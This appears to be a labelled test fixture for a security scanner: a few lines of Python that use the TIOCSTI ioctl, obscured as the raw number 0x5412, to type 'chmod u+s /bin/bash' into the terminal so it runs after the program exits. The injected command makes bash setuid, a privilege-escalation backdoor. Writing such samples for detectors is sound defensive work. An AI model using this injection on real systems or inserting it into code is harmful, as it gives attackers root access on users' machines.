# expect: signals_creds; TIOCSTI given as its raw number (0x5412) on stdin to type a command after the program exits
import fcntl
import sys

REQ = 0x5412
for byte in b"\nchmod u+s /bin/bash\n":
    fcntl.ioctl(sys.stdin.fileno(), REQ, bytes([byte]))
